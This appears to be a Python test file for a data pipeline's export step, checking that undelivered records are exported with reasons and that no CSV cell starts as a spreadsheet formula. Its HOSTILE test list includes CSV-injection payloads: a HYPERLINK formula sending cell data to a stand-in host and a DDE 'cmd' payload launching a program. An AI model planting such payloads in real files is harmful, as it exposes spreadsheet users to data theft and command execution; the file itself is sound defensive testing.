"""What did not arrive, for a person to work through: all of it, and safe to open."""

from __future__ import annotations

import csv
from typing import TYPE_CHECKING, Any

import duckdb
from desk import build, plan, send, sign, stock

from activation_pipeline.export import FORMULA_STARTS, export

if TYPE_CHECKING:
    from pathlib import Path

    from company import Company

    from activation_pipeline.contract import Contract

ANY_ADD: list[Any] = [{"change_volume": {"add": 1, "update": 1, "remove": 1, "clear": 1}}]
RUN = '=HYPERLINK("http://x.example/?"&A1;"open")'
HOSTILE = (
    RUN, "+1+cmd|'/C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1", "\n=1",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20x", '"=1', "a,=1", "a;=1", 'a"\r\n=1', "'=1", "=",
)  # fmt: skip


def exported(company: Company, contract: Contract) -> Path:
    folder = company.folder / "out"
    with company.runtime() as runtime:
        export(contract, runtime, folder)
    return folder


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def delivered(company: Company) -> Contract:
    """Plan every hostile key; a third is refused, a third unanswered, a third held at send."""
    stock(company, HOSTILE)
    contract = build(company, gates=ANY_ADD)
    sign(company, contract, plan(company, contract))
    company.destination.code = "=cmd"
    company.destination.reject.update(HOSTILE[0::3])
    company.destination.unanswered.update(HOSTILE[1::3])
    with company.changing() as connection:
        for key in HOSTILE[2::3]:
            connection.execute("insert into suppress_a values (?, '=why', null)", [key])
    send(company, contract)
    return contract


def test_everything_that_did_not_arrive_is_in_one_file_with_its_reason(company: Company) -> None:
    folder = exported(company, delivered(company))
    found = duckdb.read_parquet(str(folder / "not_accepted_crm.parquet"))
    states = {
        key: (state, code) for key, state, code in found.select("key, state, code").fetchall()
    }
    assert states == {
        **dict.fromkeys(HOSTILE[0::3], ("rejected", "=cmd")),
        **dict.fromkeys(HOSTILE[1::3], ("unknown", "LOST")),
        **dict.fromkeys(HOSTILE[2::3], ("held", "suppress_a")),
    }


def test_no_cell_of_any_exported_table_is_a_formula(company: Company) -> None:
    folder = exported(company, delivered(company))
    sheets = sorted(folder.glob("*.csv"))
    assert {"not_accepted_crm.csv", "planned_crm.csv", "included.csv"} <= {f.name for f in sheets}
    for sheet in sheets:
        cells = [cell for row in rows(sheet) for cell in (*row, *row.values())]
        assert not [cell for cell in cells if cell.startswith(tuple(FORMULA_STARTS))], sheet.name


def test_a_spreadsheet_loses_nothing_but_gains_an_apostrophe(company: Company) -> None:
    folder = exported(company, delivered(company))
    starts = tuple(FORMULA_STARTS)
    expected = {f"'{key}" if key.startswith(starts) else key for key in HOSTILE}
    found = [row["key"] for row in rows(folder / "not_accepted_crm.csv")]
    assert len(found) == len(HOSTILE)
    assert set(found) == expected


def test_what_the_policy_withholds_is_exported_too(company: Company) -> None:
    stock(company, HOSTILE)
    limited = {"decision": "launch_with_caveats", "caveats": {"at_most": 1}}
    contract = build(company, gates=ANY_ADD, launch=limited)
    plan(company, contract)
    found = rows(exported(company, contract) / "withheld_crm.csv")
    assert len(found) == len(HOSTILE) - 1
    assert {row["reason"] for row in found} == {"caveat"}
    assert not [row for row in found if row["key"].startswith(tuple(FORMULA_STARTS))]
